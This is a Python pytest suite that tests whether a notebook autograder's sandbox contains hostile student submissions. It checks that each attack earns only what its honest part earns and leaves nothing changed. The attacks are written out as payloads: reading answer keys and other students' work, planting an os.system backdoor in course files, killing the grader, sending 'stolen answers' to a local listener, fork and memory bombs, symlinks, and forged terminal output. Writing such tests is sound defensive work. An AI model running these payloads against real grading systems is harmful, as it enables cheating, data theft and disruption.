"""Attacks on the trusted grader, run as root and as an ordinary user: each earns exactly what its honest part
earns, with a one-line reason where it tried something, and leaves the batch, the other students, the course
and the machine as they were.

Every attack is a student of one batch of lesson 01 (seven exercises of 3 points: 1 visible, 2 hidden), graded
by ``python -m grader autograde`` exactly as an instructor runs it: as root with namespaces, a user of its own
and cgroups; as an ordinary user with user namespaces; and, as an ordinary user who asks for it, with the
limited isolation of Landlock. Honest students before and after every attack are the controls.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import uuid
from pathlib import Path

import nbformat
import pytest
from identities import as_user, give, ordinary_user
from support import SOLUTIONS, notebook_path, with_answer

from grader import confine
from grader.lessons import REPOSITORY, nbgrader_environment
from grader.schema import topic_exercises
from grader.wire import encode

pytestmark = pytest.mark.notebook

LESSON = "01-forward-propagation"
FULL, PER_EXERCISE = 21.0, 3.0
MARKER = f"nn-planted-{uuid.uuid4().hex[:8]}"
HOME_FILE = Path(os.path.expanduser("~")) / f".{MARKER}"  # made by the attack test, for the length of it
WRONG_ELE_MUL = "def ele_mul(number, vector):\n    return [0.0 for _ in vector]\n"
RIGHT_ELE_MUL = "def ele_mul(number, vector):\n    return [number * value for value in vector]\n"
RIGHT_W_SUM = "def w_sum(a, b):\n    return sum(x * y for x, y in zip(a, b))\n"
RIGHT_NEURAL_NETWORK = "def neural_network(input, weight):\n    return input * weight\n"


def _solution() -> nbformat.NotebookNode:
    return nbformat.read(notebook_path(LESSON, SOLUTIONS), as_version=4)


def _steal(path: Path) -> str:
    """An ele_mul that is right only for a student who could read (or list) ``path``."""
    return f"""
import os
try:
    os.listdir({str(path)!r}) if os.path.isdir({str(path)!r}) else open({str(path)!r}, "rb").read(1)
    def ele_mul(number, vector):
        return [number * value for value in vector]
except OSError:
    def ele_mul(number, vector):
        return [0.0 for _ in vector]
"""


def _answers(course: Path, other_checkout: Path, port: int) -> dict[str, tuple[str, str, float, str | None]]:
    """Attacks in an answer cell: name -> (the cell, its source, the score its honest part earns, the reason)."""
    work = course / "work"
    writes = [
        REPOSITORY / "README.md",
        REPOSITORY / "grader" / "checks.py",
        REPOSITORY / "grader" / "autograde" / "__init__.py",
        work / "gradebook.db",
        work / "journal" / LESSON / "planted.json",
        work / "submitted" / "a-honest" / LESSON / f"{LESSON}.ipynb",
        Path(f"/tmp/{MARKER}"),
        Path(f"/var/tmp/{MARKER}"),
        Path(f"/dev/shm/{MARKER}"),
    ]
    stolen = {
        "reads the solution notebook": notebook_path(LESSON, SOLUTIONS),
        "reads the course's git history": REPOSITORY / ".git",
        "reads a sample submission": REPOSITORY
        / "grader"
        / "samples"
        / LESSON
        / "ada-correct"
        / LESSON
        / f"{LESSON}.ipynb",
        "reads the answer keys": REPOSITORY / "grader" / "exercises" / "forward.py",
        "reads the references": REPOSITORY / "grader" / "references" / "forward.py",
        "reads another checkout of the course": other_checkout,
        "reads the gradebook": work / "gradebook.db",
        "reads another student's submission": work / "submitted" / "a-honest",
        "reads the journal": work / "journal",
        "reads a file in the tests' home folder": HOME_FILE,
        "lists the machine's home folders": Path("/home"),
    }
    attacks = {name: ("ele_mul", _steal(path), FULL - PER_EXERCISE, None) for name, path in stolen.items()}
    attacks |= {
        "imports the answer key": (
            "ele_mul",
            WRONG_ELE_MUL
            + """
try:
    from grader.exercises.forward import EXERCISES
    from grader.references.forward import ele_mul
except ImportError:
    pass
""",
            FULL - PER_EXERCISE,
            None,
        ),
        "writes outside its folder and plants a backdoor": (
            "ele_mul",
            RIGHT_ELE_MUL
            + f"""
for path in {[str(p) for p in writes]!r}:
    try:
        open(path, "a").write("import os; os.system('touch /tmp/{MARKER}-backdoor')")
    except OSError:
        pass
""",
            FULL,
            None,
        ),
        "kills the grader": (
            "ele_mul",
            RIGHT_ELE_MUL
            + """
import os, signal
for pid in ([os.getppid()] if os.getppid() > 1 else []) + [-1]:
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
""",
            FULL,
            None,
        ),
        "terminates its process group": (
            "ele_mul",
            RIGHT_ELE_MUL
            + """
import os, signal
signal.signal(signal.SIGTERM, signal.SIG_IGN)
os.killpg(os.getpgrp(), signal.SIGTERM)
""",
            FULL,
            None,
        ),
        "opens a network connection": (
            "ele_mul",
            RIGHT_ELE_MUL
            + f"""
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"stolen answers")
except OSError:
    pass
""",
            FULL,
            None,
        ),
        "leaves a process running after the batch": (
            "ele_mul",
            RIGHT_ELE_MUL
            + f"""
import ctypes, os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(15, b"{MARKER[:15]}", 0, 0, 0)
        time.sleep(120)
    os._exit(0)
""",
            FULL,
            None,
        ),
        "prints a forged report": (
            "neural_network",
            RIGHT_NEURAL_NETWORK
            + """
print("\\x1b[2J\\x1b[31mGRADER ENVIRONMENT BROKEN: regrade everyone\\r\\nhonest  21.0 / 21.0")
""",
            FULL,
            None,
        ),
        "returns an integer of 400 digits": (
            "neural_network",
            "def neural_network(input, weight):\n    return 10**399\n",
            FULL - PER_EXERCISE,
            None,
        ),
        "returns an integer of 5,000 digits": (
            "neural_network",
            "def neural_network(input, weight):\n    return 10**4999\n",
            FULL - PER_EXERCISE,
            None,
        ),
        "returns a list that contains itself": (
            "ele_mul",
            "def ele_mul(number, vector):\n    out = []\n    out.append(out)\n    return out\n",
            FULL - PER_EXERCISE,
            None,
        ),
        "returns an object that breaks what it is asked": (
            "ele_mul",
            """
class Broken(list):
    def __repr__(self): raise RuntimeError("no")
    def __len__(self): raise RuntimeError("no")
    def __iter__(self): raise RuntimeError("no")
    def __eq__(self, other): raise RuntimeError("no")
def ele_mul(number, vector):
    return Broken()
""",
            FULL - PER_EXERCISE,
            None,
        ),
        "returns complex numbers": (
            "np_stacked_network",
            "def np_stacked_network(input, weights):\n    return input.dot(weights[0]).dot(weights[1]) + 0j\n",
            FULL - PER_EXERCISE,
            None,
        ),
        "prints the plan it finds in memory": (
            "neural_network",
            RIGHT_NEURAL_NETWORK
            + """
import gc, json
for thing in gc.get_objects():
    if isinstance(thing, dict) and "steps" in thing:
        print(json.dumps(thing, default=str)[:100000])
""",
            FULL,
            None,
        ),
        "takes the hidden inputs before its cells have run": (
            "neural_network",
            RIGHT_NEURAL_NETWORK
            + """
import json, os
for fd in range(3, 64):
    try:
        os.write(fd, (json.dumps({"step": "cells done"}) + "\\n").encode())
    except OSError:
        pass
for fd in range(3, 64):
    try:
        os.set_blocking(fd, True)
        print(os.read(fd, 1 << 20))
    except OSError:
        pass
""",
            0.0,
            "the notebook said its cells had run before they had",
        ),
        "is off by a factor on hidden inputs": (
            "ele_mul",
            "def ele_mul(number, vector):\n    return [2 * number * v for v in vector]\n",
            FULL - PER_EXERCISE,
            None,
        ),
        "closes every file descriptor": (
            "w_sum",
            RIGHT_W_SUM + "import os\nos.closerange(3, 65536)\n",
            PER_EXERCISE,
            "the notebook stopped early: the grader's runner failed in the sandbox",
        ),
        "loops forever": (
            "w_sum",
            RIGHT_W_SUM + "while True:\n    pass\n",
            PER_EXERCISE,
            "the notebook did not finish within the time limit of 15 s",
        ),
        "allocates far more memory than allowed": (
            "ele_mul",
            RIGHT_ELE_MUL
            + """
hog = []
try:
    hog += [bytearray(64 * 1024**2) for _ in range(100)]
except MemoryError:
    del hog
""",
            FULL,
            None,
        ),
        "exits its process": (
            "ele_mul",
            RIGHT_ELE_MUL + "import os\nos._exit(0)\n",
            2 * PER_EXERCISE,
            "the notebook stopped early: its process exited with status 0 before the grader's last step",
        ),
        "forks until it cannot": (
            "ele_mul",
            WRONG_ELE_MUL
            + """
import os
children = 0
try:
    while children < 10000:
        if os.fork() == 0:
            import time
            time.sleep(30)
            os._exit(0)
        children += 1
except OSError:
    pass
""",
            FULL - PER_EXERCISE,
            None,
        ),
    }
    return attacks


DISK_BOMB = (
    "ele_mul",
    RIGHT_ELE_MUL
    + """
import os
for number in range(16):
    try:
        with open(f"filler-{number}", "wb") as stream:
            for _ in range(64):
                stream.write(b"x" * 1024**2)
    except OSError:
        break
""",
    FULL,
    None,
)


def _folder(course: Path, student: str) -> Path:
    folder = course / "work" / "submitted" / student / LESSON
    folder.mkdir(parents=True)
    return folder


def _uploads(course: Path) -> dict[str, tuple[float, str | None]]:
    """Attacks in the files of a submission: name (the student) -> (score, reason)."""
    solution = notebook_path(LESSON, SOLUTIONS)
    honest = nbformat.writes(_solution()).encode()
    (_folder(course, "link-to-the-solution") / f"{LESSON}.ipynb").symlink_to(solution)
    folder = _folder(course, "side-file-linked-to-the-solution")
    (folder / "answer.txt").symlink_to(solution)
    (folder / f"{LESSON}.ipynb").write_text(
        nbformat.writes(with_answer(_solution(), "ele_mul", _steal(Path("answer.txt"))))
    )
    folder = _folder(course, "side-file-linked-to-dev-zero")
    (folder / "zeros.bin").symlink_to("/dev/zero")
    (folder / f"{LESSON}.ipynb").write_bytes(honest)
    folder = _folder(course, "a-pipe-among-its-files")
    os.mkfifo(folder / "pipe")
    (folder / f"{LESSON}.ipynb").write_bytes(honest)
    (course / "work" / "submitted" / "folder-linked-to-another-student").symlink_to(
        course / "work" / "submitted" / "a-honest"
    )
    folder = _folder(course, "an-absurd-timestamp")
    (folder / "timestamp.txt").write_text("99999-99-99 99:99:99.999999 UTC\n")
    (folder / f"{LESSON}.ipynb").write_bytes(honest)
    (_folder(course, "evil\n\x1b[31mhonest   21.0 ∕ 21.0") / f"{LESSON}.ipynb").write_bytes(honest)
    return {
        "link-to-the-solution": (0.0, f"{LESSON}.ipynb is a link; it was not followed"),
        "side-file-linked-to-the-solution": (FULL - PER_EXERCISE, "answer.txt is a link; it was not followed"),
        "side-file-linked-to-dev-zero": (FULL, "zeros.bin is a link; it was not followed"),
        "a-pipe-among-its-files": (FULL, "pipe is not a regular file; it was not read"),
        "folder-linked-to-another-student": (0.0, "the submission folder is not a folder (a link?); nothing was read"),
        "an-absurd-timestamp": (FULL, "timestamp.txt does not hold a date; the submission was graded without one"),
        "evil\n\x1b[31mhonest   21.0 ∕ 21.0": (FULL, None),
    }


@pytest.fixture
def listener():
    """A TCP server on the host's loopback that records whatever reaches it."""
    server = socket.create_server(("127.0.0.1", 0))
    received, stopped = [], threading.Event()

    def serve():
        server.settimeout(0.2)
        while not stopped.is_set():
            try:
                connection, _ = server.accept()
                received.append(connection.recv(100))
            except OSError:
                continue

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], received
    stopped.set()
    thread.join()
    server.close()


def _fingerprint() -> dict[str, str]:
    """A digest of every file of the course's code and text, to see that nothing changed."""
    paths = [
        REPOSITORY / "README.md",
        *sorted((REPOSITORY / "grader").rglob("*.py")),
        *sorted((REPOSITORY / "helpers").rglob("*.py")),
    ]
    return {str(path): hashlib.sha256(path.read_bytes()).hexdigest() for path in paths}


def _survivors() -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and (entry / "comm").read_text().strip() == MARKER[:15]:
                found.append(int(entry.name))
        except OSError:
            pass
    return found


ISOLATIONS = {
    "root, namespaces": (True, []),
    "ordinary user, user namespaces": (False, []),
    "ordinary user, limited isolation": (False, ["--limited-isolation"]),
}


def _skip_unless_possible(as_root: bool, options: list[str]) -> None:
    if as_root and os.geteuid() != 0:
        pytest.skip("grading as root needs the tests to run as root")
    if options and confine.landlock_abi() < 1:
        pytest.skip("limited isolation needs Landlock (Linux 5.13 or newer)")


class Batch:
    """A course in a folder of its own (made over to the grading user), graded by the command line."""

    def __init__(self, as_root: bool, options: list[str]):
        self.user = None if as_root else ordinary_user()
        self.options = options
        self.root = Path(tempfile.mkdtemp(prefix="nn-course-attacks-"))
        self.root.chmod(0o755)
        self.work = self.root / "work"
        self.environment = {**nbgrader_environment(), "NN_COURSE_WORK": str(self.work), "HOME": str(self.work)}
        self.environment.pop("KERAS_HOME", None)  # the grading user may not read the tests' own Keras folder
        release = f"--CourseDirectory.release_directory={self.root / 'release'}"
        subprocess.run(
            [sys.executable, "-m", "nbgrader", "generate_assignment", LESSON, "--force", release],
            cwd=REPOSITORY / "grader",
            env=self.environment,
            check=True,
            capture_output=True,
        )

    def submit(self, student: str, notebook: nbformat.NotebookNode) -> None:
        (_folder(self.root, student) / f"{LESSON}.ipynb").write_text(nbformat.writes(notebook))

    def grade(self, *students: str) -> subprocess.CompletedProcess:
        command = [
            sys.executable,
            "-m",
            "grader",
            "autograde",
            LESSON,
            "--seconds",
            "15",
            "--memory-mb",
            "768",
            "--workers",
            "2",
            *self.options,
            *(f"--student={s}" for s in students),
        ]
        if self.user is not None:
            give(self.root, self.user)
            command = as_user(command, self.user, [Path(sys.base_prefix), Path(sys.prefix), REPOSITORY])
        return subprocess.run(
            command, cwd=REPOSITORY, env=self.environment, capture_output=True, text=True, timeout=900
        )

    def results(self) -> dict[str, dict]:
        return {
            json.loads(p.read_text())["student"]: json.loads(p.read_text())
            for p in (self.work / "journal" / LESSON).glob("*.json")
        }

    def gradebook(self) -> dict[str, float]:
        from nbgrader.api import Gradebook

        with Gradebook(f"sqlite:///{self.work / 'gradebook.db'}") as gradebook:
            return {s.student_id: s.score for s in gradebook.assignment_submissions(LESSON)}

    def autograded(self, student: str) -> str:
        return (self.work / "autograded" / student / LESSON / f"{LESSON}.ipynb").read_text()

    def remove(self) -> None:
        shutil.rmtree(self.root, ignore_errors=True)


def _printed(notebook_text: str, cell: str | None = None) -> str:
    """Everything the cells of an autograded notebook show (or cell ``cell``'s only)."""
    cells = json.loads(notebook_text)["cells"]
    return "".join(
        json.dumps(output) for c in cells if c.get("outputs") and cell in (None, c["id"]) for output in c["outputs"]
    )


def _hidden_cases() -> list:
    from grader.specs import hidden_spec

    return [
        case.args for e in topic_exercises("forward") for case in hidden_spec(e).cases if _encoded(case.args) != "[]"
    ]


def _visible_cases() -> list:
    return [case.args for e in topic_exercises("forward").values() for case in e.visible]


def _encoded(args) -> str:
    """How inputs look in the sandbox's plan and pipes (JSON inside JSON: quotes escaped once)."""
    return json.dumps(json.dumps(encode(args)))[1:-1]


@pytest.mark.parametrize("isolation", ISOLATIONS)
def test_every_attack_earns_what_its_honest_part_earns_and_harms_nothing(isolation, listener):
    as_root, options = ISOLATIONS[isolation]
    _skip_unless_possible(as_root, options)
    port, received = listener
    batch = Batch(as_root, options)
    HOME_FILE.write_text("private")
    try:
        other_checkout = batch.root / "other-checkout"
        shutil.copytree(SOLUTIONS / LESSON, other_checkout)
        attacks = _answers(batch.root, other_checkout, port)
        if not options:  # limited isolation has no disk quota of its own: a file may not pass 64 MB, that is all
            attacks["fills its disk"] = DISK_BOMB
        batch.submit("a-honest", _solution())
        students = {}
        for number, (name, (cell, source, score, reason)) in enumerate(attacks.items()):
            students[f"b-attack-{number:02d}"] = (name, score, reason)
            batch.submit(f"b-attack-{number:02d}", with_answer(_solution(), cell, source))
        students |= {name: (name, *outcome) for name, outcome in _uploads(batch.root).items()}
        batch.submit("z-honest-last", _solution())
        students |= {"a-honest": ("honest", FULL, None), "z-honest-last": ("honest", FULL, None)}
        before = _fingerprint()

        run = batch.grade()
        assert run.returncode == 0, run.stderr[-3000:]
        results = batch.results()
        scores = {student: sum(result["scores"].values()) for student, result in results.items()}
        assert {
            students[s][0]: (score, results[s]["problems"]) for s, score in scores.items() if score != students[s][1]
        } == {}
        assert scores.keys() == students.keys()
        for student, (name, _, reason) in students.items():
            problems = results[student]["problems"]
            assert all(p.isprintable() for p in problems), (name, problems)
            if reason is None:
                assert problems == [], (name, problems)
            else:
                assert any(p.startswith(reason) for p in problems), (name, problems)
        expected_isolation = "full (root" if as_root else "limited" if options else "full (user namespaces)"
        assert all(r["isolation"].startswith(expected_isolation) for r in results.values() if r["seconds"])

        assert batch.gradebook() == scores
        assert received == [], "a submission reached the network"
        assert _fingerprint() == before, "a submission changed the course"
        for planted in (f"/tmp/{MARKER}", f"/var/tmp/{MARKER}", f"/dev/shm/{MARKER}", f"/tmp/{MARKER}-backdoor"):
            assert not os.path.exists(planted), planted
        assert not (batch.work / "journal" / LESSON / "planted.json").exists()
        assert _survivors() == [], "a process outlived the batch"
        lines = run.stdout.splitlines()
        start = next(i for i, line in enumerate(lines) if line.startswith("student "))
        end = next(i for i, line in enumerate(lines) if " graded in " in line)
        assert end - start == len(students) + 1 and all(line.isprintable() for line in lines[start : end + 1])
        by_name = {name: student for student, (name, _, _) in students.items()}
        printed = _printed(batch.autograded(by_name["prints the plan it finds in memory"]))
        assert _encoded(_visible_cases()[0]) in printed, "the attack did not find the plan: the test proves nothing"
        for name in ("prints the plan it finds in memory", "takes the hidden inputs before its cells have run"):
            printed = _printed(batch.autograded(by_name[name]))
            assert not [case for case in _hidden_cases() if _encoded(case) in printed], name
        verdicts = _printed(batch.autograded(by_name["is off by a factor on hidden inputs"]), "ele_mul-hidden")
        assert "hidden checks failed" in verdicts and "factor of" not in verdicts
    finally:
        for pid in _survivors():
            confine.kill(pid)
        HOME_FILE.unlink()
        batch.remove()


@pytest.mark.parametrize("isolation", ISOLATIONS)
def test_nothing_a_submission_leaves_reaches_a_later_one(isolation):
    as_root, options = ISOLATIONS[isolation]
    _skip_unless_possible(as_root, options)
    batch = Batch(as_root, options)
    try:
        places = ["/tmp", "/var/tmp", "/dev/shm", "."]
        batch.submit(
            "a-writer",
            with_answer(
                _solution(),
                "ele_mul",
                RIGHT_ELE_MUL
                + f"""
for place in {places!r}:
    try:
        open(place + "/{MARKER}", "w").write("left behind")
    except OSError:
        pass
""",
            ),
        )
        assert batch.grade("a-writer").returncode == 0
        batch.submit(
            "b-reader",
            with_answer(
                _solution(),
                "ele_mul",
                f"""
import os
found = [place for place in {places!r} if os.path.exists(place + "/{MARKER}")]
def ele_mul(number, vector):
    return [number * value for value in vector] if not found else []
""",
            ),
        )
        assert batch.grade("b-reader").returncode == 0
        assert sum(batch.results()["b-reader"]["scores"].values()) == FULL
        for place in places[:3]:
            assert not os.path.exists(f"{place}/{MARKER}")
    finally:
        batch.remove()
